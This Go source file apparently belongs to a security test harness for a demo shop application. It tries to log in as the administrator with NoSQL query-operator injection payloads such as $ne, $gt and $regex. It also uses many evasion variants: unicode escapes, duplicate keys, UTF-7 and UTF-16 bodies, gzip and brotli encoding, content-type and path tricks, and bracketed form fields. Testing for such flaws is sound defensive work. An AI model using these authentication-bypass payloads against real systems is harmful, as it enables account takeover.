// Copyright The Panoply Authors.
// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"context"
	"errors"
	"net/http"
)

// injection logs in as the administrator with query operators in place of the
// password, in every spelling that a body parser may understand.
func injection(ctx context.Context, c *client, r *Result) error {
	_, err := c.join(ctx)
	// If any password opens the account, then no operator is needed.
	for _, wrong := range []string{
		credentials(adminEmail, "not-the-password"),
		`{"email":"admin@shop.example","password":{"$in":["not-the-password"]}}`,
	} {
		if c.owns(ctx, tokenOf(c.do(ctx, postJSON("/api/login", wrong))), adminEmail) {
			err = errors.Join(err, errors.New("a wrong password opens the administrator's account"))
		}
	}
	r.Worked = err == nil

	for _, v := range injections {
		token := tokenOf(c.do(ctx, v.request))
		if p, ok := c.me(ctx, token); ok && p.Email == adminEmail && p.Role == "admin" {
			r.prove("logged in as %s with %s", adminEmail, v.name)
		}
	}
	return err
}

const (
	// The smallest attack: any password but the empty one.
	anyPassword     = `{"email":"admin@shop.example","password":{"$ne":""}}`
	anyPasswordForm = "email=admin%40shop.example&password[$ne]="
	formType        = "application/x-www-form-urlencoded"
)

// injections are logins as the administrator without a password.
var injections = []struct {
	name    string
	request request
}{
	{"$ne in JSON", postJSON("/api/login", anyPassword)},
	{"$gt in JSON", login(`{"$gt":""}`)},
	{"$gte in JSON", login(`{"$gte":""}`)},
	{"$regex in JSON", login(`{"$regex":".*"}`)},
	{"$exists in JSON", login(`{"$exists":true}`)},
	{"$nin in JSON", login(`{"$nin":["x"]}`)},
	{"$not in JSON", login(`{"$not":{"$eq":""}}`)},
	{"$type in JSON", login(`{"$type":"string"}`)},
	{"an operator in both fields", postJSON("/api/login", `{"email":{"$regex":"^admin@"},"password":{"$ne":null}}`)},
	{"an escaped dollar sign", login(`{"\u0024ne":""}`)},
	{"an escaped operator", login(`{"\u0024\u006e\u0065":""}`)},
	{"white space around the operator", login("\t{\r\n \"$ne\"\n:\t\"\"\r\n}")},
	{"a harmless key before the operator", login(`{"$options":"i","$regex":""}`)},
	{"the password twice, operator last", postJSON("/api/login", `{"email":"admin@shop.example","password":"x","password":{"$ne":""}}`)},
	{"the password twice, operator first", postJSON("/api/login", `{"email":"admin@shop.example","password":{"$ne":""},"password":"x"}`)},
	{"an array", login(`[{"$ne":""}]`)},
	{"an array of the whole body", postJSON("/api/login", "["+anyPassword+"]")},
	{"a byte order mark", postJSON("/api/login", "\xef\xbb\xbf"+anyPassword)},
	{"UTF-16", post("/api/login", "application/json; charset=utf-16le", utf16le(anyPassword))},
	{"UTF-16 with a byte order mark", post("/api/login", "application/json; charset=utf-16", utf16le("\ufeff"+anyPassword))},
	{"UTF-7", post("/api/login", "application/json; charset=utf-7", utf7(anyPassword))},
	{"gzip", coded("gzip", gzipped(anyPassword))},
	{"GZIP in upper case", coded("GZIP", gzipped(anyPassword))},
	{"deflate", coded("deflate", deflated(anyPassword))},
	{"brotli", coded("br", brotlied(anyPassword))},
	{"a charset given twice", post("/api/login", "application/json; charset=utf-8; charset=utf-7", utf7(anyPassword))},
	{"a content type with a stray semicolon", post("/api/login", "application/json;;", []byte(anyPassword))},
	{"a content type in upper case", post("/api/login", "APPLICATION/JSON", []byte(anyPassword))},
	{"two content types", request{method: "POST", target: "/api/login", body: []byte(anyPassword),
		header: http.Header{"Content-Type": {"application/json", "text/plain"}}}},
	{"text/json", post("/api/login", "text/json", []byte(anyPassword))},
	{"text/plain", post("/api/login", "text/plain", []byte(anyPassword))},
	{"application/vnd.api+json", post("/api/login", "application/vnd.api+json", []byte(anyPassword))},
	{"no content type", post("/api/login", "", []byte(anyPassword))},
	{"another spelling of the path", postJSON("/API/Login/", anyPassword)},
	{"doubled slashes in the path", postJSON("//api//login", anyPassword)},
	{"an unannounced length", request{method: "POST", target: "/api/login", contentType: "application/json",
		body: []byte(anyPassword), chunked: true}},
	{"brackets in a form", post("/api/login", formType, []byte(anyPasswordForm))},
	{"escaped brackets in a form", post("/api/login", formType, []byte("email=admin%40shop.example&password%5B%24ne%5D="))},
	{"$gt in a form", post("/api/login", formType, []byte("email=admin%40shop.example&password[$gt]="))},
	{"a form after a wrong escape", post("/api/login", formType, []byte("x=%zz&"+anyPasswordForm))},
	{"a form with a semicolon", post("/api/login", formType, []byte("email=admin%40shop.example&x=1;y=2&password[$ne]=1"))},
	{"an array in a form", post("/api/login", formType, []byte("email=admin%40shop.example&password[]=&password[$ne]="))},
	{"brackets in the query", request{method: "POST", target: "/api/login?" + anyPasswordForm}},
	{"brackets in a multipart field name", post("/api/login", "multipart/form-data; boundary=b", []byte(
		"--b\r\nContent-Disposition: form-data; name=\"email\"\r\n\r\nadmin@shop.example\r\n"+
			"--b\r\nContent-Disposition: form-data; name=\"password[$ne]\"\r\n\r\n\r\n--b--\r\n"))},
}

// login returns a login of the administrator with a JSON value for a password.
func login(password string) request {
	return postJSON("/api/login", `{"email":"admin@shop.example","password":`+password+`}`)
}

// coded returns a JSON login under a content coding.
func coded(coding string, body []byte) request {
	q := post("/api/login", "application/json", body)
	q.header = http.Header{"Content-Encoding": {coding}}
	return q
}
